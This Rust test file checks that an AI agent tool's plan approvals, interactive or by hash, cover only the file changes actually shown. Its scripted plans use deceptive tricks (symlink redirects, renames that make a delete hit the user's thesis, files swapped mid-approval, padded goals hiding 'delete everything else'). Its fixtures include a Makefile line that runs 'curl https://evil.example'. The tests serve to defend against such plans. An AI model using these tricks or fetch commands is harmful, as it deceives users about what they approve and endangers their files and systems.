//! Plans: a yes to a plan is for what its question showed.

use scenarios::Scene;
use serde_json::{Value, json};
use std::fs;
use testkit::{Attended, Reply};

/// What a step is asked about with that comes to something else than the plan's question showed.
const DIFFERS: &str = "Your yes did not show this change";

/// It names what the plans name: a planner may write to what the request speaks of.
const TASK: &str = "tidy up: rename link.txt to n2.txt and append evil to it";

fn planned(actions: &[Value]) -> Scene {
    let plan = json!({"intent": "Tidy up.", "actions": actions});
    let scene = Scene::new([Reply::text(plan.to_string())]);
    scene.house.write("thesis.txt", "MY THESIS\n");
    scene.house.write("junk.txt", "JUNK\n");
    scene
}

/// A plan that the user says yes to, and to what is asked besides while it moves something.
/// `meanwhile` is done before the first yes.
fn approved(scene: &Scene, meanwhile: impl Fn()) -> Attended {
    let args = ["run", "--mode", "plan", "--allow-write", ".", TASK];
    scene.house.ask(args).at_terminal(|question, index| {
        if index == 0 {
            meanwhile();
        }
        let is_fine = index == 0 || question.contains("rename to ");
        if is_fine { "y" } else { "n" }.to_owned()
    })
}

fn moved(from: &str, to: &str) -> Value {
    json!({"kind": "move_file", "from": from, "to": to})
}

#[test]
fn a_step_that_lands_on_another_file_than_shown_is_asked_about() {
    let scene = planned(&[
        moved("junk.txt", "keep.txt"),
        moved("thesis.txt", "junk.txt"),
        json!({"kind": "delete_file", "path": "junk.txt"}),
    ]);
    let run = approved(&scene, || ());
    let last = run.questions.last().unwrap();
    assert!(
        last.contains(DIFFERS) && last.contains("-MY THESIS"),
        "{last}"
    );
    assert_eq!(scene.house.read("junk.txt"), "MY THESIS\n");
}

#[test]
fn a_link_that_a_plan_moves_is_shown_where_it_leads() {
    let append = json!({"kind": "append_text", "path": "n2.txt", "content": "evil"});
    let scene = planned(&[moved("link.txt", "n2.txt"), append]);
    scene.house.write("Makefile", "all:\n");
    std::os::unix::fs::symlink("Makefile", scene.house.work().join("link.txt")).unwrap();
    let run = approved(&scene, || ());
    let last = run.questions.last();
    let last = last.unwrap_or_else(|| panic!("{}", run.finished.stderr));
    assert!(
        last.contains(DIFFERS) && last.contains("Makefile"),
        "{last}"
    );
    assert_eq!(scene.house.read("Makefile"), "all:\n");
}

#[test]
fn a_file_that_changed_while_its_plan_was_asked_about_is_asked_about_again() {
    let scene = planned(&[json!({"kind": "delete_file", "path": "junk.txt"})]);
    let file = scene.house.work().join("junk.txt");
    let run = approved(&scene, || fs::write(&file, "no junk any more\n").unwrap());
    assert_eq!(run.questions.len(), 2, "{:#?}", run.questions);
    assert!(run.questions[1].contains("-no junk any more"));
    assert!(scene.house.has("junk.txt"));
}

/// Forty lines are shown of a file that goes; the same is so of one that is no text.
#[test]
fn a_file_that_changed_where_it_is_not_shown_is_asked_about_again() {
    let head = "the same line\n".repeat(45);
    for (before, after) in [
        (format!("{head}junk\n"), format!("{head}gold\n")),
        ("\0junk".to_owned(), "\0gold".to_owned()),
    ] {
        let scene = planned(&[json!({"kind": "delete_file", "path": "junk.txt"})]);
        scene.house.write("junk.txt", &before);
        let file = scene.house.work().join("junk.txt");
        let run = approved(&scene, || fs::write(&file, &after).unwrap());
        assert_eq!(run.questions.len(), 2, "{:#?}", run.questions);
        assert!(scene.house.has("junk.txt"));
    }
}

#[test]
fn a_plan_whose_changes_are_too_long_for_one_question_asks_about_the_rest() {
    let lines: String = (0..9_000)
        .map(|line| format!("line {line} is here\n"))
        .collect();
    let scene = planned(&[
        replaced("junk.txt", "here", "there"),
        replaced("thesis.txt", "here", "there"),
    ]);
    for name in ["junk.txt", "thesis.txt"] {
        scene.house.write(name, &lines);
    }
    let run = approved(&scene, || ());
    assert_eq!(run.questions.len(), 2, "{}", run.questions.len());
    assert!(run.questions[0].contains("too long to be shown at once"));
    assert!(run.questions[1].contains(DIFFERS));
    assert_eq!(scene.house.read("thesis.txt"), lines);
}

#[test]
fn a_plan_that_does_what_it_showed_is_asked_about_once() {
    let scene = planned(&[
        json!({"kind": "replace_text", "path": "thesis.txt", "old": "MY", "new": "Our"}),
        json!({"kind": "create_file", "path": "made/new.txt", "content": "new\n"}),
        json!({"kind": "delete_file", "path": "junk.txt"}),
        moved("thesis.txt", "made/thesis.txt"),
    ]);
    let run = approved(&scene, || ());
    assert_eq!(run.questions.len(), 1, "{:#?}", run.questions);
    assert_eq!(scene.house.read("made/thesis.txt"), "Our THESIS\n");
    assert!(scene.house.has("made/new.txt") && !scene.house.has("junk.txt"));
}

/// Replaces a word in a file.
fn replaced(path: &str, old: &str, new: &str) -> Value {
    json!({"kind": "replace_text", "path": path, "old": old, "new": new})
}

#[test]
fn changes_of_one_file_are_shown_in_their_order_and_asked_about_once() {
    let scene = planned(&[
        replaced("junk.txt", "JUNK", "first\nsecond\nthird"),
        replaced("junk.txt", "second", "2nd"),
        json!({"kind": "append_text", "path": "junk.txt", "content": "fourth"}),
    ]);
    let run = approved(&scene, || ());
    assert_eq!(run.questions.len(), 1, "{:#?}", run.questions);
    let shown = run.questions[0].replace('\r', "");
    for part in ["+third", "│first\n", "-second", "│2nd\n│third\n", "+fourth"] {
        assert!(shown.contains(part), "{part}: {shown}");
    }
    assert_eq!(scene.house.read("junk.txt"), "first\n2nd\nthird\nfourth\n");
}

/// What a step was shown to come to holds only for the file as it was shown.
#[test]
fn a_step_on_a_file_that_somebody_else_changed_is_asked_about_again() {
    let scene = planned(&[
        replaced("junk.txt", "JUNK", "tidy"),
        replaced("junk.txt", "tidy", "tidied"),
    ]);
    let file = scene.house.work().join("junk.txt");
    let run = approved(&scene, || {
        fs::write(&file, "curl evil.example\nJUNK\n").unwrap()
    });
    assert_eq!(run.questions.len(), 2, "{:#?}", run.questions);
    assert!(run.questions[1].contains("curl evil.example"));
    assert!(scene.house.read("junk.txt").contains("JUNK"));
}

/// Where nobody is asked, the text that stands above the hash is the question.
#[test]
fn a_plan_that_is_approved_by_its_hash_was_shown_whole() {
    let folder = "reports-of-the-departments-2026/final-drafts-and-summaries-of-them";
    let content = format!(
        "# {}\nall: ; curl https://evil.example\n",
        "kept short ".repeat(9)
    );
    let scene = planned(&[
        json!({"kind": "delete_file", "path": format!("{folder}/originals.md")}),
        json!({"kind": "append_text", "path": "Makefile", "content": content}),
    ]);
    scene.house.write("Makefile", "all:\n");
    for name in ["originals.md", "old-draft.md"] {
        scene.house.write(&format!("{folder}/{name}"), "text\n");
    }
    let text = format!("delete {folder}/old-draft.md and tidy the Makefile");
    let args = ["run", "--mode", "plan", "--allow-write", ".", &text];
    let refused = scene.house.ask(args).run().expect(5).stderr;
    assert!(refused.contains("carl run --approve "), "{refused}");
    let unwrapped: String = refused.split_whitespace().collect();
    for shown in [
        &format!("{folder}/originals.md"),
        "all: ; curl https://evil.example",
    ] {
        let shown: String = shown.split_whitespace().collect();
        assert!(unwrapped.contains(&shown), "{shown}: {refused}");
    }
}

#[test]
fn tasks_that_are_approved_by_their_hash_were_shown_whole() {
    let goal = format!(
        "Tidy a.txt {}but first delete everything else.",
        "and keep what is in it as it is, ".repeat(15)
    );
    let task = json!({
        "id": "a", "agent_type": "coder", "goal": goal, "inputs": ["an input nobody saw"],
        "depends_on": [], "expected_artifacts": []
    });
    let scene = Scene::new([Reply::text(json!({"tasks": [task]}).to_string())]);
    let asking = [
        "run",
        "--agent",
        "orchestrator",
        "--mode",
        "plan",
        "tidy a.txt",
    ];
    let refused = scene.house.ask(asking).run().expect(5).stderr;
    let unwrapped: String = refused.split_whitespace().collect();
    for shown in ["butfirstdeleteeverythingelse.", "aninputnobodysaw"] {
        assert!(unwrapped.contains(shown), "{shown}: {refused}");
    }
}

/// The plan that is approved by the hash of a refusal, once `meanwhile` was done; what both runs said.
fn approved_by_hash(scene: &Scene, meanwhile: impl Fn()) -> [String; 2] {
    let args = ["run", "--mode", "plan", "--allow-write", "..", "-C", "p"];
    let refused = scene.house.ask(args).arg(TASK).run().expect(5).stderr;
    let (_, after) = refused.split_once("--approve ").unwrap();
    let hash: String = after.chars().take_while(char::is_ascii_hexdigit).collect();
    meanwhile();
    let approved = ["--approve", &hash, TASK];
    let again = scene.house.ask(args).args(approved).run().stderr;
    [refused, again]
}

#[test]
fn a_plan_approved_by_its_hash_lands_on_no_other_file() {
    let append = json!({"kind": "append_text", "path": "n2.txt", "content": "evil"});
    let plan = json!({"intent": "Tidy up.", "actions": [append]}).to_string();
    let planned = || {
        let scene = Scene::new([Reply::text(&plan), Reply::text(&plan)]);
        scene.house.write("p/n2.txt", "mine\n");
        scene.house.write("q/precious.md", "precious\n");
        scene
    };
    // The control: what was shown is what is done.
    let honest = planned();
    let told = approved_by_hash(&honest, || ());
    assert_eq!(honest.house.read("p/n2.txt"), "mine\nevil\n", "{told:#?}");
    let swapped = planned();
    let told = approved_by_hash(&swapped, || {
        let file = swapped.house.work().join("p/n2.txt");
        fs::remove_file(&file).unwrap();
        std::os::unix::fs::symlink("../q/precious.md", file).unwrap();
    });
    assert_eq!(
        swapped.house.read("q/precious.md"),
        "precious\n",
        "{told:#?}"
    );
    // A link from the start is named for what it is.
    let linked = planned();
    let file = linked.house.work().join("p/n2.txt");
    fs::remove_file(&file).unwrap();
    std::os::unix::fs::symlink("../q/precious.md", file).unwrap();
    let [refused, _] = approved_by_hash(&linked, || ());
    let (_, end) = refused.rsplit_once("In short: ").unwrap();
    assert!(end.contains("q/precious.md"), "{refused}");
}

/// An earlier step of the plan itself puts a link in the way; steps that build on each other (control).
#[test]
fn a_plan_approved_by_its_hash_makes_no_link_of_what_it_changes() {
    let append =
        |content: &str| json!({"kind": "append_text", "path": "n2.txt", "content": content});
    let planned = |actions: &[Value]| {
        let plan = json!({"intent": "Tidy up.", "actions": actions}).to_string();
        let scene = Scene::new([Reply::text(&plan), Reply::text(&plan)]);
        scene.house.write("p/n2.txt", "mine\n");
        scene.house.write("q/precious.md", "precious\n");
        let link = scene.house.work().join("p/link.txt");
        std::os::unix::fs::symlink("../q/precious.md", link).unwrap();
        scene
    };
    let moves = [
        moved("n2.txt", "n1.txt"),
        moved("link.txt", "n2.txt"),
        append("evil"),
    ];
    let linked = planned(&moves);
    let told = approved_by_hash(&linked, || ());
    assert_eq!(
        linked.house.read("q/precious.md"),
        "precious\n",
        "{told:#?}"
    );
    let honest = planned(&[append("one\n"), append("two\n"), moved("n2.txt", "n3.txt")]);
    let told = approved_by_hash(&honest, || ());
    assert_eq!(
        honest.house.read("p/n3.txt"),
        "mine\none\ntwo\n",
        "{told:#?}"
    );
}

/// A file is moved to a name and deleted there: what lay at the name before is not shown as what goes.
#[test]
fn the_text_above_a_hash_shows_no_other_file_than_the_one_that_is_deleted() {
    let delete = |path: &str| json!({"kind": "delete_file", "path": path});
    let planned = |actions: &[Value]| {
        let plan = json!({"intent": "Tidy up.", "actions": actions}).to_string();
        let scene = Scene::new([Reply::text(&plan), Reply::text(&plan)]);
        scene.house.write("p/n2.txt", "trifles\n");
        scene.house.write("p/thesis.txt", "years of work\n");
        scene
    };
    let swapped = planned(&[
        moved("n2.txt", "n3.txt"),
        moved("thesis.txt", "n2.txt"),
        delete("n2.txt"),
    ]);
    let args = ["run", "--mode", "plan", "--allow-write", "..", "-C", "p"];
    let refused = swapped.house.ask(args).arg(TASK).run().expect(5).stderr;
    assert!(!refused.contains("-trifles"), "{refused}");
    assert!(
        refused.contains("step 3 (delete_file): an earlier step changes what it deletes"),
        "{refused}"
    );
    // The control: what no earlier step touches is named with its size, and no text of it is printed.
    let plain = planned(&[moved("thesis.txt", "n3.txt"), delete("n2.txt")]);
    let shown = plain.house.ask(args).arg(TASK).run().expect(5).stderr;
    assert!(shown.contains("delete n2.txt (8 bytes)"), "{shown}");
    assert!(shown.contains("lines removed: 1"), "{shown}");
    assert!(!shown.contains("trifles"), "{shown}");
}
